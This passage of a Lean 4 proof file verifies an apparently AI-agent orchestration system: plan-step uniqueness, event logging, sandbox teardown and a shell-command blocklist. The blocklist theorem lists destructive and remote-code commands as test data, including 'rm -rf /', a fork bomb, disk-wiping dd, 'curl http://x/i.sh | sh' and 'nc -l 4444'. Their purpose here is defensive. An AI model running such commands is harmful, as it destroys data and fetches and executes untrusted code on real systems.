      s.criticCalls + (if cfg.enableCritic = true then 1 else 0) ∧
    (criticPhase cfg oracle s).events =
      s.events ++
        (if cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence then
          (if (oracle.corrections s.k).isEmpty = true then ["critic_evaluation"]
           else ["critic_evaluation", "correction_applied"])
         else []) ∧
    (criticPhase cfg oracle s).currentPlan =
      (if cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
          (oracle.corrections s.k).isEmpty = false then
        s.currentPlan.take (s.i + 1) ++ oracle.corrections s.k ++ s.currentPlan.drop (s.i + 1)
       else s.currentPlan) := by
  by_cases h1 : cfg.enableCritic = true
  · by_cases h2 : ¬ (oracle.critic s.k).isOnTrack = true ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence
    · by_cases h3 : (oracle.corrections s.k).isEmpty = true
      · have hcond : cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence :=
          ⟨h1, h2⟩
        have hncond : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
            (oracle.corrections s.k).isEmpty = false) := by
          rintro ⟨-, -, -, hne⟩
          rw [h3] at hne
          exact absurd hne (by decide)
        simp only [criticPhase, if_pos h1, if_pos h2, if_pos h3, if_pos hcond,
          if_neg hncond, if_pos (rfl : (true : Bool) = true)]
        simp
      · have hcond : cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence :=
          ⟨h1, h2⟩
        have hcond2 : cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
            (oracle.corrections s.k).isEmpty = false :=
          ⟨h1, h2.1, h2.2, by simpa using h3⟩
        simp only [criticPhase, if_pos h1, if_pos h2, if_neg h3, if_pos hcond,
          if_pos hcond2, if_pos (rfl : (true : Bool) = true)]
        simp
    · have hncond : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence) := by
        rintro ⟨-, hx⟩
        exact h2 hx
      have hncond2 : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
          (oracle.corrections s.k).isEmpty = false) := by
        rintro ⟨-, ha, hb, -⟩
        exact h2 ⟨ha, hb⟩
      simp only [criticPhase, if_pos h1, if_neg h2, if_neg hncond, if_neg hncond2,
        if_pos (rfl : (true : Bool) = true)]
      simp
  · have hncond : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence) := by
      rintro ⟨hx, -⟩
      exact h1 hx
    have hncond2 : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
        (oracle.corrections s.k).isEmpty = false) := by
      rintro ⟨hx, -⟩
      exact h1 hx
    simp only [criticPhase, if_neg h1, if_neg hncond, if_neg hncond2]
    simp [h1]

theorem loopIter_events_ext (cfg : OrchConfig) (oracle : OrchOracle)
    (st : LoopState) (step : Step) :
    ∃ d, (loopIter cfg oracle st step).state.events = st.events ++ d ∧
      ∀ e ∈ d, e ∈ iterTags := by
  rcases hdb : updateStepDb st.dbPlan step.id
      (executeStep cfg.registry step (oracle.handler st.k)) with _ | db1
  · refine ⟨["step_started"], ?_, by decide⟩
    simp only [loopIter, hdb, LoopRes.state]
  · obtain ⟨d, hd, hmem⟩ := criticPhase_events_ext cfg oracle
      { st with
        events := st.events ++ ["step_started", "step_completed"],
        dbPlan := db1,
        snapshots := st.snapshots ++ [db1] }
    by_cases hfail : (executeStep cfg.registry step (oracle.handler st.k)).status =
        StepStatus.failed ∧ step.required = true
    · refine ⟨["step_started", "step_completed"] ++ d ++ ["execution_stopped"], ?_, ?_⟩
      · simp only [loopIter, hdb, if_pos hfail, LoopRes.state, hd]
        simp
      · intro e he
        rcases List.mem_append.mp he with h | h
        · rcases List.mem_append.mp h with h | h
          · fin_cases h <;> decide
          · exact hmem e h
        · fin_cases h
          decide
    · refine ⟨["step_started", "step_completed"] ++ d, ?_, ?_⟩
      · simp only [loopIter, hdb, if_neg hfail, LoopRes.state, hd]
        simp
      · intro e he
        rcases List.mem_append.mp he with h | h
        · fin_cases h <;> decide
        · exact hmem e h

theorem orchLoop_events_ext (cfg : OrchConfig) (oracle : OrchOracle) :
    ∀ (fuel : Nat) (st st' : LoopState) (exc : Bool),
      orchLoop cfg oracle fuel st = some (st', exc) →
      ∃ d, st'.events = st.events ++ d ∧ ∀ e ∈ d, e ∈ iterTags := by
  intro fuel
  induction fuel with
  | zero => intro st st' exc h; exact absurd h (by simp [orchLoop])
  | succ n ih =>
    intro st st' exc h
    unfold orchLoop at h
    rcases hget : st.currentPlan[st.i]? with _ | step
    · simp only [hget, Option.some.injEq, Prod.mk.injEq] at h
      exact ⟨[], by simp [← h.1], by simp⟩
    · simp only [hget] at h
      obtain ⟨d, hd, hmem⟩ := loopIter_events_ext cfg oracle st step
      rcases hit : loopIter cfg oracle st step with st2 | st2 | st2
      · rw [hit] at hd
        simp only [hit] at h
        obtain ⟨d2, hd2, hmem2⟩ := ih st2 st' exc h
        simp only [LoopRes.state] at hd
        exact ⟨d ++ d2, by rw [hd2, hd, List.append_assoc], by
          intro e he
          rcases List.mem_append.mp he with h | h
          · exact hmem e h
          · exact hmem2 e h⟩
      · rw [hit] at hd
        simp only [hit, Option.some.injEq, Prod.mk.injEq] at h
        simp only [LoopRes.state] at hd
        exact ⟨d, by rw [← h.1, hd], hmem⟩
      · rw [hit] at hd
        simp only [hit, Option.some.injEq, Prod.mk.injEq] at h
        simp only [LoopRes.state] at hd
        exact ⟨d, by rw [← h.1, hd], hmem⟩

theorem orchLoop_count (cfg : OrchConfig) (oracle : OrchOracle)
    (fuel : Nat) (st st' : LoopState) (exc : Bool) (t : String)
    (h : orchLoop cfg oracle fuel st = some (st', exc)) (ht : t ∉ iterTags) :
    st'.events.count t = st.events.count t := by
  obtain ⟨d, hd, hmem⟩ := orchLoop_events_ext cfg oracle fuel st st' exc h
  rw [hd, List.count_append, count_zero_of_forall_mem hmem ht]
  exact Nat.add_zero _

theorem orchRun_count_zero (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat) (r : OrchResult) (t : String)
    (h : orchRun cfg planner oracle fuel = some r)
    (h1 : t ∉ iterTags)
    (h2 : t ∉ (["planning_started", "plan_generated", "execution_started",
                "orchestration_failed", "task_succeeded",
                "task_completed_with_failures"] : List String)) :
    r.events.count t = 0 := by
  rcases planner with msg | plan
  · simp only [orchRun, Option.some.injEq] at h
    rw [← h]
    apply List.count_eq_zero.mpr
    intro hm
    apply h2
    simp only [List.mem_cons, List.not_mem_nil, or_false] at hm ⊢
    tauto
  · rcases hloop : orchLoop cfg oracle fuel
        { currentPlan := plan, i := 0, k := 0, dbPlan := plan,
          events := ["planning_started", "plan_generated", "execution_started"],
          snapshots := [plan], criticCalls := 0 } with _ | stexc
    · simp only [orchRun, hloop] at h
      exact absurd h (by simp)
    · obtain ⟨st, exc⟩ := stexc
      simp only [orchRun, hloop] at h
      have hcount := orchLoop_count cfg oracle fuel _ st exc t hloop h1
      have hbase : st.events.count t = 0 := by
        rw [hcount]
        apply List.count_eq_zero.mpr
        intro hm
        apply h2
        simp only [List.mem_cons, List.not_mem_nil, or_false] at hm ⊢
        tauto
      have htail : ∀ s : String,
          s ∈ (["orchestration_failed", "task_succeeded",
                "task_completed_with_failures"] : List String) →
          ([s] : List String).count t = 0 := by
        intro s hs
        apply List.count_eq_zero.mpr
        intro hm
        apply h2
        simp only [List.mem_cons, List.not_mem_nil, or_false] at hm hs ⊢
        rcases hs with rfl | rfl | rfl <;> tauto
      rcases exc with _ | _
      · simp only [Option.some.injEq] at h
        rw [← h]
        simp only [List.count_append, hbase]
        split
        · rw [htail "task_succeeded" (by decide)]
        · rw [htail "task_completed_with_failures" (by decide)]
      · simp only [Option.some.injEq] at h
        rw [← h]
        simp only [List.count_append, hbase]
        rw [htail "orchestration_failed" (by decide)]

/-! ## Step-id lemmas for the plan-uniqueness analysis -/

theorem executeStep_id (reg : List String) (step : Step) (h : HandlerOutcome) :
    (executeStep reg step h).id = step.id := by
  unfold executeStep
  split
  · cases h <;> rfl
  · rfl

theorem updateStepDb_map_id :
    ∀ (db : List Step) (sid : String) (ex : Step) (db2 : List Step),
      ex.id = sid → updateStepDb db sid ex = some db2 →
      db2.map Step.id = db.map Step.id := by
  intro db
  induction db with
  | nil =>
    intro sid ex db2 _ h
    exact absurd h (by simp [updateStepDb])
  | cons s rest ih =>
    intro sid ex db2 hex h
    by_cases hs : s.id = sid
    · rw [updateStepDb, if_pos hs] at h
      obtain rfl := Option.some.inj h
      simp [hex, hs]
    · rw [updateStepDb, if_neg hs] at h
      rcases hrec : updateStepDb rest sid ex with _ | l1
      · rw [hrec] at h
        exact absurd h (by simp)
      · rw [hrec] at h
        simp only [Option.map_some', Option.some.injEq] at h
        rw [← h]
        simp only [List.map_cons]
        rw [ih sid ex l1 hex hrec]

theorem splice_map_id (l c : List Step) (n : Nat) :
    (((l.take n ++ c ++ l.drop n).map Step.id : List String) : Multiset String) =
      ((l.map Step.id : List String) : Multiset String) +
        ((c.map Step.id : List String) : Multiset String) := by
  have h1 : (l.take n ++ c ++ l.drop n).map Step.id =
      (l.take n).map Step.id ++ c.map Step.id ++ (l.drop n).map Step.id := by
    simp
  have h2 : (l.take n).map Step.id ++ (l.drop n).map Step.id = l.map Step.id := by
    rw [← List.map_append, List.take_append_drop]
  rw [h1, ← Multiset.coe_add, ← Multiset.coe_add, add_right_comm,
    Multiset.coe_add, h2]

theorem sumCorrIds_succ (oracle : OrchOracle) (k : Nat) :
    sumCorrIds oracle (k + 1) = sumCorrIds oracle k + corrIds oracle k := by
  unfold sumCorrIds
  rw [List.range_succ, List.map_append, List.sum_append]
  simp

theorem sumCorrIds_le (oracle : OrchOracle) {a b : Nat} (h : a ≤ b) :
    sumCorrIds oracle a ≤ sumCorrIds oracle b := by
  induction b, h using Nat.le_induction with
  | base => exact le_refl _
  | succ n hn ih =>
    calc sumCorrIds oracle a ≤ sumCorrIds oracle n := ih
    _ ≤ sumCorrIds oracle (n + 1) := by
        rw [sumCorrIds_succ]
        exact Multiset.le_add_right _ _

theorem criticPhase_spec2 (cfg : OrchConfig) (oracle : OrchOracle) (s : LoopState) :
    (criticPhase cfg oracle s).k = s.k ∧
    (criticPhase cfg oracle s).dbPlan =
      (if cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
          (oracle.corrections s.k).isEmpty = false then
        s.currentPlan.take (s.i + 1) ++ oracle.corrections s.k ++ s.currentPlan.drop (s.i + 1)
       else s.dbPlan) ∧
    (criticPhase cfg oracle s).snapshots =
      (if cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
          (oracle.corrections s.k).isEmpty = false then
        s.snapshots ++
          [s.currentPlan.take (s.i + 1) ++ oracle.corrections s.k ++ s.currentPlan.drop (s.i + 1)]
       else s.snapshots) := by
  by_cases h1 : cfg.enableCritic = true
  · by_cases h2 : ¬ (oracle.critic s.k).isOnTrack = true ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence
    · by_cases h3 : (oracle.corrections s.k).isEmpty = true
      · have hncond : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
            (oracle.corrections s.k).isEmpty = false) := by
          rintro ⟨-, -, -, hne⟩
          rw [h3] at hne
          exact absurd hne (by decide)
        simp only [criticPhase, if_pos h1, if_pos h2, if_pos h3, if_neg hncond]
        exact ⟨by simp, by simp, by simp⟩
      · have hcond2 : cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
            (oracle.corrections s.k).isEmpty = false :=
          ⟨h1, h2.1, h2.2, by simpa using h3⟩
        simp only [criticPhase, if_pos h1, if_pos h2, if_neg h3, if_pos hcond2]
        exact ⟨by simp, by simp, by simp⟩
    · have hncond2 : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
          (oracle.corrections s.k).isEmpty = false) := by
        rintro ⟨-, ha, hb, -⟩
        exact h2 ⟨ha, hb⟩
      simp only [criticPhase, if_pos h1, if_neg h2, if_neg hncond2]
      exact ⟨by simp, by simp, by simp⟩
  · have hncond2 : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic s.k).isOnTrack = true ∧
        cfg.criticConfidenceThreshold ≤ (oracle.critic s.k).confidence ∧
        (oracle.corrections s.k).isEmpty = false) := by
      rintro ⟨hx, -⟩
      exact h1 hx
    simp only [criticPhase, if_neg h1, if_neg hncond2]
    exact ⟨by simp, by simp, by simp⟩

theorem orchLoop_ids (cfg : OrchConfig) (oracle : OrchOracle) (planM : Multiset String)
    (F : Nat) (htot : (planM + sumCorrIds oracle F).Nodup) :
    ∀ (fuel : Nat) (st st2 : LoopState) (exc : Bool),
      orchLoop cfg oracle fuel st = some (st2, exc) →
      st.k + fuel ≤ F →
      (((st.currentPlan.map Step.id : List String) : Multiset String) ≤
        planM + sumCorrIds oracle st.k) →
      st.dbPlan.map Step.id = st.currentPlan.map Step.id →
      (∀ p ∈ st.snapshots, (p.map Step.id).Nodup) →
      (∀ p ∈ st2.snapshots, (p.map Step.id).Nodup) ∧
      (st2.dbPlan.map Step.id).Nodup ∧
      (st2.currentPlan.map Step.id).Nodup := by
  intro fuel
  induction fuel with
  | zero =>
    intro st st2 exc h
    exact absurd h (by simp [orchLoop])
  | succ n ih =>
    intro st st2 exc h hb hA hdb hsnap
    have hkF : st.k ≤ F := le_trans (Nat.le_add_right _ _) hb
    have hcurNodup : (st.currentPlan.map Step.id).Nodup := by
      have hle : ((st.currentPlan.map Step.id : List String) : Multiset String) ≤
          planM + sumCorrIds oracle F :=
        le_trans hA (add_le_add_left (sumCorrIds_le oracle hkF) _)
      exact Multiset.coe_nodup.mp (Multiset.nodup_of_le hle htot)
    have hdbNodup : (st.dbPlan.map Step.id).Nodup := by
      rw [hdb]
      exact hcurNodup
    unfold orchLoop at h
    rcases hget : st.currentPlan[st.i]? with _ | step
    · simp only [hget, Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨rfl, -⟩ := h
      exact ⟨hsnap, hdbNodup, hcurNodup⟩
    · simp only [hget] at h
      have hexid : (executeStep cfg.registry step (oracle.handler st.k)).id = step.id :=
        executeStep_id _ _ _
      rcases hdbu : updateStepDb st.dbPlan step.id
          (executeStep cfg.registry step (oracle.handler st.k)) with _ | db1
      · simp only [loopIter, hdbu, Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨h1, -⟩ := h
        rw [← h1]
        exact ⟨hsnap, hdbNodup, hcurNodup⟩
      · have hdb1 : db1.map Step.id = st.currentPlan.map Step.id := by
          rw [updateStepDb_map_id st.dbPlan step.id _ db1 hexid hdbu, hdb]
        have hdb1Nodup : (db1.map Step.id).Nodup := by
          rw [hdb1]
          exact hcurNodup
        obtain ⟨hk2, hdbPlan2, hsnap2⟩ := criticPhase_spec2 cfg oracle
          { st with
            events := st.events ++ ["step_started", "step_completed"],
            dbPlan := db1,
            snapshots := st.snapshots ++ [db1] }
        obtain ⟨-, -, hplan2⟩ := criticPhase_spec cfg oracle
          { st with
            events := st.events ++ ["step_started", "step_completed"],
            dbPlan := db1,
            snapshots := st.snapshots ++ [db1] }
        dsimp only at hk2 hdbPlan2 hsnap2 hplan2
        have hsnapAll1 : ∀ p ∈ st.snapshots ++ [db1], (p.map Step.id).Nodup := by
          intro p hp
          rcases List.mem_append.mp hp with hp | hp
          · exact hsnap p hp
          · rw [List.mem_singleton.mp hp]
            exact hdb1Nodup
        by_cases hext : cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
            (oracle.corrections st.k).isEmpty = false
        · have hsplice_le :
              (((st.currentPlan.take (st.i + 1) ++ oracle.corrections st.k ++
                 st.currentPlan.drop (st.i + 1)).map Step.id : List String) : Multiset String) ≤
                planM + sumCorrIds oracle (st.k + 1) := by
            rw [splice_map_id]
            calc ((st.currentPlan.map Step.id : List String) : Multiset String) +
                  ((((oracle.corrections st.k).map Step.id : List String)) : Multiset String) ≤
                (planM + sumCorrIds oracle st.k) + corrIds oracle st.k :=
                  add_le_add_right hA _
              _ = planM + sumCorrIds oracle (st.k + 1) := by
                  rw [sumCorrIds_succ, add_assoc]
          have hk1F : st.k + 1 ≤ F :=
            le_trans (Nat.add_le_add_left (Nat.le_add_left 1 n) st.k) hb
          have hspliceNodup :
              ((st.currentPlan.take (st.i + 1) ++ oracle.corrections st.k ++
                st.currentPlan.drop (st.i + 1)).map Step.id).Nodup := by
            have hle := le_trans hsplice_le
              (add_le_add_left (sumCorrIds_le oracle hk1F) planM)
            exact Multiset.coe_nodup.mp (Multiset.nodup_of_le hle htot)
          have hsnapAll2 : ∀ p ∈ (st.snapshots ++ [db1]) ++
              [st.currentPlan.take (st.i + 1) ++ oracle.corrections st.k ++
               st.currentPlan.drop (st.i + 1)], (p.map Step.id).Nodup := by
            intro p hp
            rcases List.mem_append.mp hp with hp | hp
            · exact hsnapAll1 p hp
            · rw [List.mem_singleton.mp hp]
              exact hspliceNodup
          by_cases hfail : (executeStep cfg.registry step (oracle.handler st.k)).status =
              StepStatus.failed ∧ step.required = true
          · simp only [loopIter, hdbu, if_pos hfail, Option.some.injEq, Prod.mk.injEq] at h
            obtain ⟨h1, -⟩ := h
            rw [← h1]
            refine ⟨?_, ?_, ?_⟩
            · show ∀ p ∈ (criticPhase cfg oracle _).snapshots, (p.map Step.id).Nodup
              rw [hsnap2, if_pos hext]
              exact hsnapAll2
            · show ((criticPhase cfg oracle _).dbPlan.map Step.id).Nodup
              rw [hdbPlan2, if_pos hext]
              exact hspliceNodup
            · show ((criticPhase cfg oracle _).currentPlan.map Step.id).Nodup
              rw [hplan2, if_pos hext]
              exact hspliceNodup
          · simp only [loopIter, hdbu, if_neg hfail] at h
            refine ih _ st2 exc h ?_ ?_ ?_ ?_
            · show (criticPhase cfg oracle _).k + 1 + n ≤ F
              rw [hk2]
              omega
            · show (((criticPhase cfg oracle _).currentPlan.map Step.id : List String) :
                  Multiset String) ≤ planM + sumCorrIds oracle ((criticPhase cfg oracle _).k + 1)
              rw [hplan2, if_pos hext, hk2]
              exact hsplice_le
            · show (criticPhase cfg oracle _).dbPlan.map Step.id =
                (criticPhase cfg oracle _).currentPlan.map Step.id
              rw [hdbPlan2, hplan2, if_pos hext, if_pos hext]
            · show ∀ p ∈ (criticPhase cfg oracle _).snapshots, (p.map Step.id).Nodup
              rw [hsnap2, if_pos hext]
              exact hsnapAll2
        · by_cases hfail : (executeStep cfg.registry step (oracle.handler st.k)).status =
              StepStatus.failed ∧ step.required = true
          · simp only [loopIter, hdbu, if_pos hfail, Option.some.injEq, Prod.mk.injEq] at h
            obtain ⟨h1, -⟩ := h
            rw [← h1]
            refine ⟨?_, ?_, ?_⟩
            · show ∀ p ∈ (criticPhase cfg oracle _).snapshots, (p.map Step.id).Nodup
              rw [hsnap2, if_neg hext]
              exact hsnapAll1
            · show ((criticPhase cfg oracle _).dbPlan.map Step.id).Nodup
              rw [hdbPlan2, if_neg hext]
              exact hdb1Nodup
            · show ((criticPhase cfg oracle _).currentPlan.map Step.id).Nodup
              rw [hplan2, if_neg hext]
              exact hcurNodup
          · simp only [loopIter, hdbu, if_neg hfail] at h
            refine ih _ st2 exc h ?_ ?_ ?_ ?_
            · show (criticPhase cfg oracle _).k + 1 + n ≤ F
              rw [hk2]
              omega
            · show (((criticPhase cfg oracle _).currentPlan.map Step.id : List String) :
                  Multiset String) ≤ planM + sumCorrIds oracle ((criticPhase cfg oracle _).k + 1)
              rw [hplan2, if_neg hext, hk2]
              exact le_trans hA
                (add_le_add_left (sumCorrIds_le oracle (Nat.le_succ _)) planM)
            · show (criticPhase cfg oracle _).dbPlan.map Step.id =
                (criticPhase cfg oracle _).currentPlan.map Step.id
              rw [hdbPlan2, hplan2, if_neg hext, if_neg hext]
              exact hdb1
            · show ∀ p ∈ (criticPhase cfg oracle _).snapshots, (p.map Step.id).Nodup
              rw [hsnap2, if_neg hext]
              exact hsnapAll1

/-! ## Equation lemmas for the worker -/

theorem processTask_false (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat) :
    processTask false cfg planner oracle fuel = some wrCreateFail := rfl

theorem processTask_true_none (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat)
    (h : orchRun cfg planner oracle fuel = none) :
    processTask true cfg planner oracle fuel = none := by
  simp [processTask, h]

theorem processTask_true_raised (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat) (r : OrchResult)
    (h : orchRun cfg planner oracle fuel = some r) (hra : r.raised = true) :
    processTask true cfg planner oracle fuel =
      some { events := ["task_started", "sandbox_created"] ++ r.events ++ ["task_failed"],
             status := "failed", destroyCalls := 1, rethrown := true,
             dbPlan := r.dbPlan } := by
  simp [processTask, h, hra]

theorem processTask_true_ok (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat) (r : OrchResult)
    (h : orchRun cfg planner oracle fuel = some r) (hra : r.raised = false) :
    processTask true cfg planner oracle fuel =
      some { events := ["task_started", "sandbox_created"] ++ r.events ++ ["task_completed"],
             status := "succeeded", destroyCalls := 1, rethrown := false,
             dbPlan := r.dbPlan } := by
  simp [processTask, h, hra]

/-! ## Claims -/

/-- C4: `executeStep` always returns a step record and never raises: an
unknown tool yields a failed step with a "Tool not found" error, a
handler exception is caught and recorded as a failed step, and
otherwise the returned status is `completed` iff the handler result's
success flag is true, with the full result attached.  (The "never
raises" half is witnessed by `executeStep` being a total function into
`Step`.) -/
theorem executeStep_total_spec (reg : List String) (step : Step) (h : HandlerOutcome) :
    ((executeStep reg step h).status = StepStatus.completed ∨
      (executeStep reg step h).status = StepStatus.failed) ∧
    (reg.contains step.tool = false →
      executeStep reg step h =
        { step with status := StepStatus.failed,
                    result := some ⟨false, "", some ("Tool not found: " ++ step.tool)⟩ }) ∧
    (reg.contains step.tool = true →
      (∀ m, h = HandlerOutcome.throws m →
        executeStep reg step h =
          { step with status := StepStatus.failed, result := some ⟨false, "", some m⟩ }) ∧
      (∀ r, h = HandlerOutcome.returns r →
        executeStep reg step h =
          { step with status := if r.success then StepStatus.completed else StepStatus.failed,
                      result := some r } ∧
        ((executeStep reg step h).status = StepStatus.completed ↔ r.success = true))) := by
  refine ⟨?_, ?_, ?_⟩
  · unfold executeStep
    split
    · cases h with
      | returns r => cases hr : r.success <;> simp [hr]
      | throws m => simp
    · simp
  · intro hc
    have hc2 : step.tool ∉ reg := by simpa using hc
    simp [executeStep, hc2]
  · intro hc
    have hc2 : step.tool ∈ reg := by simpa using hc
    refine ⟨?_, ?_⟩
    · rintro m rfl
      simp [executeStep, hc2]
    · rintro r rfl
      cases hr : r.success <;> simp [executeStep, hc2, hr]

/-- Witness for C4 at a concrete input: the tool `file_write` is
registered and a successful handler result yields a completed step. -/
theorem executeStep_total_spec_witness :
    executeStep registry5 sampleStep okOutcome =
      { sampleStep with status := StepStatus.completed, result := some ⟨true, "done", none⟩ } ∧
    ((executeStep registry5 sampleStep okOutcome).status = StepStatus.completed ↔
      (true : Bool) = true) := by
  have h := ((executeStep_total_spec registry5 sampleStep okOutcome).2.2
    (by decide)).2 ⟨true, "done", none⟩ rfl
  exact ⟨h.1, h.2⟩

/-- C8: every command matched by an entry of the blocklist regex set is
rejected by the shell service with a failing response whose error text
indicates policy rejection, and no process is spawned; the second
conjunct checks one representative command per documented blocklist
entry against `isCommandBlocked`. -/
theorem shell_blocklist_rejects :
    (∀ (cmd : String) (runner : String → ExecOutcome),
      isCommandBlocked cmd = true →
        handleExecute (some cmd) runner =
          (⟨403, false, some "Command blocked for security reasons", some 1, some "",
            some "This command is not allowed"⟩, false)) ∧
    (["sudo apt-get update", "rm -rf /", "rm -rf *", ":()\x7b :|:& \x7d;:",
      "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "shutdown -h now",
      "reboot", "halt", "poweroff", "init 0", "echo junk >/dev/sda",
      "echo junk >/dev/hda", "mv data /dev/null", "chmod -R 777 /",
      "chown -R root /srv", "wget http://x/i.sh | sh", "curl http://x/i.sh | sh",
      "nc -l 4444", "nohup ./task.sh &"].all isCommandBlocked) = true := by
  constructor
  · intro cmd runner hb
    simp [handleExecute, hb]
  · decide

/-- Witness for C8 at a concrete input: `sudo apt-get update` is
blocked and produces the policy-rejection response without spawning. -/
theorem shell_blocklist_rejects_witness :
    handleExecute (some "sudo apt-get update") runner0 =
      (⟨403, false, some "Command blocked for security reasons", some 1, some "",
        some "This command is not allowed"⟩, false) :=
  shell_blocklist_rejects.1 "sudo apt-get update" runner0 (by decide)

/-- C2 (counterexample): with one sandbox in the table, a `destroy`
whose `docker stop` fails leaves the entry in the table and surfaces
the error — the entry is not removed before the container calls — and
a second `destroy` is not a no-op (it retries the destruction). -/
theorem destroy_cex :
    (destroy table1 "task-1" false true).1.get "task-1" = some ⟨"c0ffee"⟩ ∧
    (destroy table1 "task-1" false true).2 = DestroyOutcome.threw ∧
    (destroy (destroy table1 "task-1" false true).1 "task-1" true true).2 =
      DestroyOutcome.destroyed := by decide

/-- C2 (amended): `destroy` removes the lookup entry only after both
`docker stop` and `docker rm` succeed; on success a second `destroy`
of the same id is a warning no-op, while on failure the error is
surfaced and the entry remains in the table. -/
theorem destroy_spec (table : SandboxTable) (id : String) (sb : Sandbox)
    (stopOk rmOk : Bool) (hkeys : (table.map Prod.fst).Nodup)
    (hmem : table.get id = some sb) :
    (stopOk = true → rmOk = true →
      destroy table id stopOk rmOk = (table.delete id, DestroyOutcome.destroyed) ∧
      (∀ s2 r2, destroy (table.delete id) id s2 r2 =
        (table.delete id, DestroyOutcome.warned))) ∧
    ((stopOk = false ∨ rmOk = false) →
      destroy table id stopOk rmOk = (table, DestroyOutcome.threw)) := by
  constructor
  · rintro rfl rfl
    refine ⟨by simp [destroy, hmem], ?_⟩
    intro s2 r2
    simp [destroy, SandboxTable.get_delete_none table id hkeys]
  · intro hfail
    rcases hfail with rfl | rfl
    · simp [destroy, hmem]
    · cases stopOk <;> simp [destroy, hmem]

/-- Witness for C2 (amended) at a concrete input. -/
theorem destroy_spec_witness :
    destroy table1 "task-1" true true = ([], DestroyOutcome.destroyed) ∧
    destroy table1 "task-1" false true = (table1, DestroyOutcome.threw) := by
  have h := destroy_spec table1 "task-1" ⟨"c0ffee"⟩ true true (by decide) (by decide)
  have h2 := destroy_spec table1 "task-1" ⟨"c0ffee"⟩ false true (by decide) (by decide)
  exact ⟨(h.1 rfl rfl).1, h2.2 (Or.inl rfl)⟩

/-- C10: every facade operation on a sandbox id missing from the lookup
table throws a "Sandbox not found" exception, while a transport or
parse failure on a known sandbox is returned as a `success := false`
result, not thrown. -/
theorem facade_not_found_spec (table : SandboxTable) (id : String) :
    (table.get id = none →
      (∀ t, executeShell table id t = Except.error ("Sandbox not found: " ++ id)) ∧
      (∀ t, readFile table id t = Except.error ("Sandbox not found: " ++ id)) ∧
      (∀ t, writeFile table id t = Except.error ("Sandbox not found: " ++ id)) ∧
      (∀ t, listDirectory table id t = Except.error ("Sandbox not found: " ++ id)) ∧
      (∀ t, executeBrowser table id t = Except.error ("Sandbox not found: " ++ id))) ∧
    (∀ sb, table.get id = some sb →
      (∀ m, executeShell table id (Transport.throws m) = Except.ok ⟨false, -1, "", m, some m⟩) ∧
      (∀ m, readFile table id (Transport.throws m) = Except.ok ⟨false, none, some m⟩) ∧
      (∀ m, writeFile table id (Transport.throws m) = Except.ok ⟨false, none, some m⟩) ∧
      (∀ m, listDirectory table id (Transport.throws m) = Except.ok ⟨false, none, some m⟩) ∧
      (∀ m, executeBrowser table id (Transport.throws m) = Except.ok ⟨false, some m⟩)) := by
  constructor
  · intro h
    refine ⟨?_, ?_, ?_, ?_, ?_⟩ <;> intro t <;>
      simp [executeShell, readFile, writeFile, listDirectory, executeBrowser, h]
  · intro sb h
    refine ⟨?_, ?_, ?_, ?_, ?_⟩ <;> intro m <;>
      simp [executeShell, readFile, writeFile, listDirectory, executeBrowser, h]

/-- Witness for C10 at concrete inputs: an empty table throws for a
shell call, and a transport failure on a known sandbox comes back as a
non-thrown failure result. -/
theorem facade_not_found_spec_witness :
    executeShell [] "sb-x" (Transport.parsed ⟨true, 0, "", "", none⟩) =
      Except.error ("Sandbox not found: " ++ "sb-x") ∧
